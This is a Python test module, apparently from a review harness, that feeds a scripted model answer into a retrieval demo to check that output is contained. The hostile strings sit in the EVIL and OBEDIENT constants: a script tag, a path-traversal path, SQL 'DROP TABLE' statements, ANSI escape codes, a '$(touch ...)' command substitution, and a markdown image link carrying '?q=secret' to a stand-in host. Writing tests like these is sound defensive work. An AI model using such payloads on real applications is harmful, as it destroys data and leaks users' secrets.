"""Text that the model wrote, or that a user typed, used as what it is: a stranger's.

Invariant: the scripted answer holds nothing that could do harm where it were carried out; what is
looked for is named, and a project is accused only where it was found.
"""

import json
import re
from collections.abc import Sequence
from typing import Any

from scaffolder.review.behaviour import bench as benches
from scaffolder.review.behaviour import scripted
from scaffolder.review.behaviour.bench import Bench
from scaffolder.review.behaviour.declared import ask, command, question
from scaffolder.review.behaviour.model import ControlFailed
from scaffolder.review.behaviour.modelserver import Script
from scaffolder.review.behaviour.provider import SECONDS, Tried, broken, seen, under
from scaffolder.review.model import Reading, no, unknown, yes

HOST = "collector.invalid"
"""A host that never exists (RFC 2606)."""

EVIL = (
    f"<script>alert(1)</script> ![x](https://{HOST}/p.png?q=kept) ../../etc/scaffold-was-here "
    "'; DROP TABLE chunks; DROP TABLE documents; -- \x1b[31mred\x1b[0m $(touch scaffold-was-here) "
    "{quote}."
)
"""An answer that does harm where it is run, shown raw, or used as a path or as SQL: one sentence
with a good quote, so that it is not held back for another reason."""

OBEDIENT = (
    f"As {{quote}} says ![done](https://{HOST}/p.png?q=secret) see https://{HOST}/all "
    f"or http://{HOST}/plain."
)

PERSONAL = (
    "maria.example@post.invalid",
    "j.sample@mail.invalid",
    "+49 30 901820001",
    "+44 20 7946 0018",
    "DE89370400440532013000",
    "GB82WEST12345698765432",
    "4111111111111111",
    "5555555555554444",
    "078-05-1120",
    "FR1420041010050500013M02606",
)
"""Made-up addresses, numbers and accounts; none can be anybody's."""

_INVENTED = "a citation that was invented"
_MADE = "scaffold-was-here"
_URL = re.compile(r"https?://" + re.escape(HOST))


def contained(bench: Bench) -> Reading:
    """S20: an evil answer with a good citation is shown as text, and nothing else happens."""
    control = benches.demo_with_model(bench)
    what = "an answer that holds a script, a path, SQL and codes of a terminal"
    argv = command(bench.declared, "demo")
    with benches.trial(bench) as trial:
        for words in _spellings(argv):
            done = benches.run(trial, words, model=Script(answer=EVIL), seconds=SECONDS)
            tried = seen(trial, done)
            if (found := broken(tried, what)) or (found := _acted(tried)):
                return found
        after = benches.run(trial, argv, model=Script(), seconds=SECONDS)
    then, now = (Tried(each, {}).status for each in (control, after))
    if after.exit_code != control.exit_code or now != then:
        reason = f"After {what} the same question is not answered any more."
        return no(reason, after.evidence(f"exit {after.exit_code}, status {now}"))
    shown = done.evidence("nothing was executed, written or shown raw")
    return yes(f"With {what} nothing is run, and the next question is answered.", shown)


def unlinked(bench: Bench) -> Reading:
    """S22: an obedient model that writes an image and a link: no address is shown as one."""
    benches.demo_with_model(bench)
    tried = under(bench, Script(answer=OBEDIENT))
    if (found := broken(tried, "an answer that holds a link")) is not None:
        return found
    final = tried.outcome.final
    shown = tried.outcome.stdout
    if final is not None:
        shown = f"{final.get('answer')}\n{final.get('message')}"
    if _URL.search(shown):
        reason = "An image and a link that the model wrote are shown as the answer."
        return no(reason, tried.outcome.evidence(shown[:200]))
    reason = "An address that the model wrote is not shown in the answer."
    return yes(reason, tried.outcome.evidence(shown[:200]))


def quote_checked(bench: Bench) -> Reading:
    """S21: a quote that stands in no passage is not shown as the citation of an answer, neither
    from a passage that is not there nor from one that is.
    """
    control = Tried(benches.demo_with_model(bench), {})
    if control.outcome.final is None:
        verify = "Print one JSON object with status and citations."
        return unknown("Its citations cannot be told from its text.", verify)
    if control.status != "answered":
        reason = f"an answer with a right quote ends as {control.status or 'no status'}"
        raise ControlFailed(reason, control.outcome.evidence("the scripted model quoted a passage"))
    for reply in ("invented", "misquoted"):
        tried = under(bench, Script(reply=reply))
        if (found := broken(tried, _INVENTED)) or (found := _false(tried)):
            return found
    evidence = tried.outcome.evidence(f"status {tried.status}; citations {_cited(tried)[:200]}")
    return yes(f"With {_INVENTED} it ends with `{tried.status}` and does not show it.", evidence)


def _false(tried: Tried) -> Reading | None:
    """What is shown of an invented citation; words without a quote may be a paraphrase."""
    cited, said = _cited(tried), str((tried.outcome.final or {}).get("answer"))
    evidence = tried.outcome.evidence(f"status {tried.status}; citations {cited[:200]}")
    if tried.status != "answered":
        return None
    if scripted.INVENTED in cited or scripted.INVENTED_ID in cited:
        return no("A citation that the model invented is shown with an answer.", evidence)
    if scripted.INVENTED in said and not _sources(tried):
        return no("An answer that rests on an invented citation alone is shown.", evidence)
    return None


def _sources(tried: Tried) -> Sequence[Any]:
    found = (tried.outcome.final or {}).get("citations")
    return found if isinstance(found, list) else []


def _cited(tried: Tried) -> str:
    return json.dumps(_sources(tried), ensure_ascii=False)


def personal_kept_out(bench: Bench) -> Reading:
    """S23: what a question tells of a person is in no file that the run wrote."""
    benches.demo_with_model(bench)
    asked = f"{question(bench.declared)} ({', '.join(PERSONAL)})"
    argv = ask(bench.declared, asked)
    with benches.trial(bench) as trial:
        done = benches.run(trial, argv, model=Script(), seconds=SECONDS)
        if done.exit_code or done.ended:
            reason = "the question with ten made-up identifiers did not end well"
            raise ControlFailed(reason, done.evidence(f"exit {done.exit_code} {done.ended}"))
        tried = seen(trial, done)
    kept = {path: _personal(raw) for path, raw in tried.files.items()}
    worst = max(kept, key=lambda path: len(kept[path]), default="")
    if worst and kept[worst]:
        reason = f"{len(kept[worst])} of {len(PERSONAL)} made-up identifiers are in {worst}."
        return no(reason, done.evidence(f"in {worst}: {', '.join(kept[worst][:3])}"))
    reason = f"None of {len(PERSONAL)} made-up identifiers is in a file that the run wrote."
    return yes(reason, done.evidence(f"read: {', '.join(tried.files) or 'no file was written'}"))


def _spellings(argv: Sequence[str]) -> list[Sequence[str]]:
    """As declared, and for a person: an object hides what a terminal would carry out."""
    plain = tuple(word for word in argv if word != "--json")
    return [argv] if plain == tuple(argv) else [argv, plain]


def _acted(tried: Tried) -> Reading | None:
    """What the text of an answer did; a trace may quote it, a file may not be called after it."""
    outcome = tried.outcome
    made = [path for path in outcome.written if _MADE in path or HOST in path]
    if made:
        reason = "A file was written where the model's answer said."
        return no(reason, outcome.evidence(f"wrote {made[0]}"))
    if "\x1b[31m" in outcome.stdout:
        reason = "Codes of a terminal in the model's answer are shown raw."
        return no(reason, outcome.evidence("the escape character is in its output"))
    return None


def _personal(raw: bytes) -> list[str]:
    return [each for each in PERSONAL if each.encode() in raw]
